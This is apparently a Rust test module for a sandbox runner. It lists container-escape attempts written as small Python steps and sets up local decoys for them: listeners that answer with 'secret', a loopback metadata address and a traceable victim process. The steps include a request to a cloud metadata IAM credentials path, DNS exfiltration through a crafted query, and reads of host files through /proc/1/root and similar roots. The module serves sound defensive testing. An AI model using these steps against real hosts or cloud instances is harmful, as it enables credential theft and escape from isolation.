//! Attacks on what is around the sandbox, and what they are let loose on: listeners, a process and files of
//! this test. Nothing here can leave the machine.

use super::attack::{Attack, Ends, as_they_are};
use holdpoint_runner::sandbox::control::Control;
use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt as _;
use std::process::{Child, Command, Stdio};
use tempfile::TempDir;

/// Where containers of a cloud ask for credentials (Amazon ECS and EKS), one for each sandbox that is attacked
/// at the same time. Not the machines' own 169.254.169.254, which may be in use where this runs.
const METADATA: [&str; 2] = ["169.254.170.2", "169.254.170.23"];

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "port of the host",
        control: Control::NoNetwork,
        besides: &[],
        steps: &["
host, port = os.environ['HOST_PORT'].rsplit(':', 1)
with socket.create_connection((host, int(port)), 5) as line:
    line.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
    if b'secret' in line.recv(100): worked()"],
        ends: Ends::GivesUp,
        limits: as_they_are,
    },
    Attack {
        name: "metadata address",
        control: Control::NoNetwork,
        besides: &[],
        steps: &["
host, port = os.environ['METADATA'].rsplit(':', 1)
with socket.create_connection((host, int(port)), 5) as line:
    line.sendall(b'GET /latest/meta-data/iam HTTP/1.0\\r\\n\\r\\n')
    if b'secret' in line.recv(100): worked()"],
        ends: Ends::GivesUp,
        limits: as_they_are,
    },
    Attack {
        // A query whose name carries what is stolen (RFC 1035 §4.1), to a resolver of this test.
        name: "DNS exfiltration",
        control: Control::NoNetwork,
        besides: &[],
        steps: &["
host, port = os.environ['RESOLVER'].rsplit(':', 1)
query = bytes([0x48, 0x50, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 6]) + b'stolen' + bytes([4]) + b'test' + bytes([0, 0, 16, 0, 1])
line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
line.settimeout(5)
line.sendto(query, (host, int(port)))
if b'secret' in line.recv(100): worked()"],
        ends: Ends::GivesUp,
        limits: as_they_are,
    },
    Attack {
        name: "file of the host",
        control: Control::NoHostMounts,
        besides: &[],
        steps: &["
path = os.environ['HOST_FILE']
for root in ['', '/holdpoint/host', '/host', '/proc/1/root', '/proc/self/root']:
    try:
        with open(root + path) as file:
            if 'secret' in file.read():
                worked()
                break
    except OSError: pass"],
        ends: Ends::GivesUp,
        limits: as_they_are,
    },
    Attack {
        name: "socket of the container engine",
        control: Control::NoHostMounts,
        besides: &[],
        steps: &["
for root in ['', '/holdpoint/host', '/host', '/proc/1/root']:
    if os.path.exists(root + os.environ['ENGINE_SOCKET']):
        worked()
        break"],
        ends: Ends::GivesUp,
        limits: as_they_are,
    },
    Attack {
        name: "file that only root may read",
        control: Control::UnprivilegedUser,
        besides: &[],
        steps: &["
with open('/holdpoint/rules/private') as file:
    if 'secret' in file.read(): worked()"],
        ends: Ends::GivesUp,
        limits: as_they_are,
    },
];

/// What the attacks are let loose on.
pub struct Outside {
    folder: TempDir,
    victim: Child,
    env: BTreeMap<String, String>,
    metadata: &'static str,
}

impl Outside {
    /// `host`: the address of the host that a step with a network would reach.
    pub fn new(host: IpAddr) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let mode = |path: &std::path::Path, mode| {
            std::fs::set_permissions(path, PermissionsExt::from_mode(mode)).unwrap();
        };
        mode(folder.path(), 0o755);
        for (name, bits) in [("open", 0o644), ("private", 0o600)] {
            std::fs::write(folder.path().join(name), "secret").unwrap();
            mode(&folder.path().join(name), bits);
        }
        // The engine's socket may be anywhere, or nowhere at all.
        let socket = folder.path().join("engine.sock");
        drop(std::os::unix::net::UnixListener::bind(&socket).unwrap());
        let metadata = METADATA[usize::from(host.is_loopback())];
        let added = metadata_address("replace", metadata);
        assert!(added.status.success(), "{}", String::from_utf8_lossy(&added.stderr));
        let env = BTreeMap::from([
            ("HOST_PORT".to_owned(), serve(host).to_string()),
            ("METADATA".to_owned(), serve(metadata.parse().unwrap()).to_string()),
            ("RESOLVER".to_owned(), resolve(host).to_string()),
            ("HOST_FILE".to_owned(), folder.path().join("open").display().to_string()),
            ("ENGINE_SOCKET".to_owned(), socket.display().to_string()),
        ]);
        Self {
            folder,
            victim: victim(),
            env,
            metadata,
        }
    }

    /// What the attacks are told.
    pub fn env(&self) -> &BTreeMap<String, String> {
        &self.env
    }

    /// A folder that steps see read-only, with one file that only root may read.
    pub fn folder(&self) -> &std::path::Path {
        self.folder.path()
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = self.victim.kill();
        let _ = self.victim.wait();
        metadata_address("delete", self.metadata);
    }
}

/// Adds the address to this machine's loopback interface, or removes it: what is sent there stays here.
fn metadata_address(change: &str, address: &str) -> std::process::Output {
    Command::new("ip")
        .args(["address", change, &format!("{address}/32"), "dev", "lo"])
        .output()
        .expect("`ip` is needed (iproute2)")
}

/// Answers every connection with a secret.
fn serve(address: IpAddr) -> SocketAddr {
    let listener = TcpListener::bind((address, 0)).unwrap();
    let bound = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for line in listener.incoming() {
            let Ok(mut line) = line else { continue };
            let _ = line.read(&mut [0; 100]);
            let _ = line.write_all(b"HTTP/1.0 200 OK\r\n\r\nsecret");
        }
    });
    bound
}

/// Answers every datagram with a secret.
fn resolve(address: IpAddr) -> SocketAddr {
    let socket = UdpSocket::bind((address, 0)).unwrap();
    let bound = socket.local_addr().unwrap();
    std::thread::spawn(move || {
        let mut query = [0; 512];
        while let Ok((_, from)) = socket.recv_from(&mut query) {
            let _ = socket.send_to(b"secret", from);
        }
    });
    bound
}

/// A process of the host that belongs to the user whom steps run as, as another candidate's would. It lets
/// itself be traced by anybody, for hosts where the Yama module would stand in the way (prctl(2)).
fn victim() -> Child {
    let program = "import ctypes, signal, time\n\
                   signal.signal(signal.SIGUSR1, signal.SIG_IGN)\n\
                   ctypes.CDLL(None).prctl(0x59616d61, ctypes.c_long(-1), 0, 0, 0)\n\
                   print('ready', flush=True)\n\
                   time.sleep(600)";
    let mut victim = Command::new("/usr/bin/python3")
        .args(["-c", program, "holdpoint-victim"])
        .env_clear()
        .env("HOLDPOINT_VICTIM", "1")
        .uid(holdpoint_runner::sandbox::SANDBOX_UID)
        .gid(holdpoint_runner::sandbox::SANDBOX_UID)
        .current_dir("/")
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut ready = [0; 6];
    victim.stdout.as_mut().unwrap().read_exact(&mut ready).unwrap();
    victim
}
